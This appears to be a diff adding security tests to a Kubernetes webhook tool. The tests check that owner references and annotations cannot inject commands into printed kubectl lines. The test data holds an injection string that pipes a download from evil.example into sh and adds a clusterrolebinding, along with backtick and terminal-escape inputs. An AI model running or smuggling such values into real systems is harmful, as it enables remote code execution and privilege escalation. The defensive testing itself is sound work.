@@ -7,6 +7,8 @@ from typing import Any
 
 import msgspec
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 import planted
 from webhook.adopt import Outcome, judge, line, summary
@@ -109,6 +111,52 @@ def test_refused_with_what_to_do_and_not_even_anyway(found: PullSecretObject, wh
     assert why in outcome.why
     assert todo in outcome.todo
     assert f"\n  to do: {outcome.todo}" in line(outcome, dry_run=False)
+
+
+SHELL = "configmap; curl -s https://evil.example/x | sh # a\nkubectl create clusterrolebinding x"
+
+
+@pytest.mark.parametrize(
+    ("kind", "name"),
+    [
+        (SHELL, "a"),
+        ("ConfigMap", SHELL),
+        ("ConfigMap", "--all"),
+        ("ConfigMap", "a..b"),
+        ("Namespace", "kube-system"),  # names and kinds as they may be, and yet not what to delete
+        ("ClusterRoleBinding", "cluster-admin"),
+    ],
+)
+def test_of_what_owns_it_no_command_is_made_that_could_do_something_else(kind: str, name: str) -> None:
+    owner = {"ownerReferences": [{"kind": kind, "name": name, "uid": "e"}]}
+    said = line(judged(secret(owner)), dry_run=True)
+    assert "kubectl -n" not in said.replace("kubectl create", "")
+    assert "delete it with --cascade=orphan" in said
+    assert len(said.splitlines()) == 2
+
+
+hostile = st.text(max_size=20) | st.sampled_from(
+    [SHELL, "\x1b[2J", "\u202eevil", "\u200b", "x" * 9999, "a\r\nb", "`id`"]
+)
+
+
+@given(hostile, hostile, hostile, hostile)
+def test_what_others_wrote_begins_no_line_and_is_in_no_command(kind: str, name: str, by: str, manager: str) -> None:
+    wrote = {"manager": manager, "time": "2029-12-31T10:00:00Z", "fieldsV1": {"f:data": {}}}
+    reference = {"kind": kind, "name": name, "uid": "e"}
+    for found in (
+        secret({"ownerReferences": [reference]}),
+        secret({"annotations": {"app.kubernetes.io/managed-by": by, f"generate.kyverno.io/{name}": ""}}),
+        secret({"labels": {f"generate.kyverno.io/{name}{n}": "" for n in range(100)}}),
+        secret(type=kind),
+        secret({"managedFields": [wrote]}),
+    ):
+        for space in (SPACE, Namespace("team", "space-uid", 1, name)):
+            said = line(judged(found, space=space), dry_run=False).splitlines()
+            assert [one.startswith(start) for one, start in zip(said, ("team: ", "  to do: "), strict=False)] == [
+                True
+            ] * len(said)
+            assert all(one.isprintable() and len(one) < 1500 for one in said)
 
 
 def test_a_reference_to_its_own_namespace_is_no_owner() -> None:
